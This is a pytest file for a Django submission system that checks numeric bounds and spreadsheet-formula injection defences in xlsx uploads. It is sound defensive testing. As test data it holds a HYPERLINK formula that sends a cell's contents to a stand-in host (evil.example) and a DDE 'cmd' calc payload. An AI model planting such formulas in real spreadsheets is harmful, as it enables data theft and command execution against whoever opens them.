"""Issue 10 for submissions: numbers bounded by their cell and column (1e20 was stored as a float in a
numeric(18, 4) column and broke the page; 1e28 failed the upload with a 500), rows already stored out of range
do not break the page, the template never writes a formula and an upload can carry none but arithmetic."""

from __future__ import annotations

import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from django.db import connection
from django.test import Client
from openpyxl import load_workbook

from gongkai.audit.models import AuditEntry
from gongkai.organisations.models import Organisation
from gongkai.reports.stats_requests import NEW, T3
from gongkai.submissions import actions
from gongkai.submissions.layout import META_SHEET, layout
from gongkai.submissions.models import Submission, SubmittedValue, validate_value
from gongkai.submissions.xlsx import SubmissionError, _number, template_for
from tests.conftest import PASSWORD, Personas, Tree
from tests.submissions.helpers import PERSON, TABLE3_2021, edit, fill, where

pytestmark = pytest.mark.django_db

YEAR, FMT = 2024, "2021"
CELL = where(FMT, T3, NEW, PERSON)  # 表三!D6, a count that may not be negative
COORD = f"{CELL[0]}!{CELL[1]}"


@pytest.fixture
def template(tree: Tree) -> bytes:
    return template_for(tree.county_police, YEAR, FMT)


def refused(personas: Personas, tree: Tree, upload: bytes) -> list[str]:
    with pytest.raises(SubmissionError) as caught:
        actions.submit(personas.supervisor, tree.county_police, YEAR, FMT, io.BytesIO(upload), "x.xlsx")
    assert not Submission.objects.exists() and not SubmittedValue.objects.exists()
    assert not AuditEntry.objects.filter(action__startswith="submission.").exists()
    return [str(p) for p in caught.value.problems]


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        (1e20, "超出允许范围"),
        (1e28, "超出允许范围"),
        (1e300, "超出允许范围"),
        (10**30, "超出允许范围"),
        (1_000_000_001, "超出允许范围"),
        (-1, "不能为负数"),
        (1.5, "须为整数"),
    ],
)
def test_out_of_range_cells_are_refused_naming_the_cell(
    tree: Tree, personas: Personas, template: bytes, value: Any, reason: str
) -> None:
    problems = refused(personas, tree, edit(template, {CELL: value}))
    assert any(p.startswith(COORD) and reason in p for p in problems), problems


def test_the_bound_itself_is_accepted() -> None:
    entry = next(e for s in layout(FMT) for e in s.entries if (s.name, e.coordinate) == CELL)
    assert _number(1_000_000_000, entry) == (Decimal(1_000_000_000), "")
    assert _number(1e9, entry) == (Decimal(1_000_000_000), "")


def _with_raw_value(upload: bytes, text: bytes) -> bytes:
    """The upload with 表三!D6's stored number replaced by ``text`` (what no spreadsheet writes)."""
    src, out = zipfile.ZipFile(io.BytesIO(upload)), io.BytesIO()
    with zipfile.ZipFile(out, "w") as dst:
        for item in src.infolist():
            data = src.read(item)
            if item.filename.startswith("xl/worksheets/"):
                data = re.sub(rb'(<c r="D6"[^>]*>)<v>[^<]*</v>', rb"\g<1><v>" + text + rb"</v>", data)
            dst.writestr(item, data)
    return out.getvalue()


@pytest.mark.parametrize("raw", [b"1e400", b"-1e400", b"", b"nan"])
def test_infinity_nan_and_empty_numbers_are_refused(
    tree: Tree, personas: Personas, template: bytes, raw: bytes
) -> None:
    upload = _with_raw_value(fill(template, FMT, TABLE3_2021), raw)
    assert refused(personas, tree, upload)


def test_the_model_refuses_what_the_column_cannot_hold() -> None:
    for bad in (Decimal("1E+20"), Decimal("1E+14"), Decimal("NaN"), Decimal("Infinity"), Decimal("0.00001")):
        with pytest.raises(ValidationError):
            validate_value(bad)
    validate_value(Decimal("99999999999999.9999"))


def test_the_domain_function_checks_the_column_whatever_the_parser_says(
    tree: Tree, personas: Personas, template: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    from gongkai.submissions import xlsx

    monkeypatch.setattr(xlsx, "CELL_MAX", 10**30)
    problems = refused(personas, tree, edit(template, {CELL: 10**20}))
    assert any(p.startswith(COORD) for p in problems), problems


@pytest.mark.skipif(connection.vendor != "sqlite", reason="PostgreSQL cannot store such a row at all")
def test_the_page_survives_a_row_stored_out_of_range(tree: Tree, personas: Personas, template: bytes) -> None:
    upload = fill(template, FMT, TABLE3_2021)
    submission = actions.submit(
        personas.supervisor, tree.county_police, YEAR, FMT, io.BytesIO(upload), "x.xlsx"
    )
    # as an upload accepted before the bounds stored it (a float in the numeric column)
    with connection.cursor() as cursor:
        cursor.execute(
            "UPDATE submissions_submittedvalue SET value = 1e20 WHERE submission_id = %s AND statistic_key = %s",
            [submission.pk, "t3.new.0"],
        )
    client = Client()
    assert client.login(username=personas.supervisor.username, password=PASSWORD)
    response = client.get(f"/staff/submissions/{tree.county_police.org_code}/{YEAR}/?format={FMT}")
    assert response.status_code == 200
    assert "超出允许范围" in response.content.decode()
    from gongkai.reports.build import build_report

    build_report(tree.county, YEAR, FMT)  # the roll-up leaves the row out instead of failing


def test_template_writes_a_hostile_body_name_as_text(tree: Tree) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    Organisation.objects.filter(pk=tree.county_police.pk).update(name=hostile)
    tree.county_police.refresh_from_db()
    book = load_workbook(io.BytesIO(template_for(tree.county_police, YEAR, FMT)))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert hostile in [c.value for c in book[META_SHEET]["B"]]


@pytest.mark.parametrize(
    ("cell", "formula", "reason"),
    [
        (("表三", "A2"), '=HYPERLINK("http://evil.example","点我")', "只有填报单元格可以含公式"),
        (CELL, "=cmd|' /C calc'!A0", "公式只能使用四则运算"),
        (CELL, '=HYPERLINK("http://evil.example",3)', "公式只能使用四则运算"),
        (CELL, "=[other.xlsx]表三!D6", "公式只能使用四则运算"),
    ],
)
def test_an_upload_with_a_dangerous_formula_is_refused(
    tree: Tree, personas: Personas, template: bytes, cell: tuple[str, str], formula: str, reason: str
) -> None:
    problems = refused(personas, tree, edit(fill(template, FMT, TABLE3_2021), {cell: formula}))
    assert any(p.startswith(f"{cell[0]}!{cell[1]}") and reason in p for p in problems), problems


def test_withdraw_reason_is_normalised(
    tree: Tree, personas: Personas, template: bytes, tmp_path: Path
) -> None:
    submission = actions.submit(
        personas.supervisor,
        tree.county_police,
        YEAR,
        FMT,
        io.BytesIO(fill(template, FMT, TABLE3_2021)),
        "a\x01b.xlsx",
    )
    assert submission.original_name == "ab.xlsx"
    with pytest.raises(ValidationError, match="U\\+0001"):
        actions.withdraw(personas.supervisor, submission, "数据\x01有误")
    assert Submission.objects.get().is_current
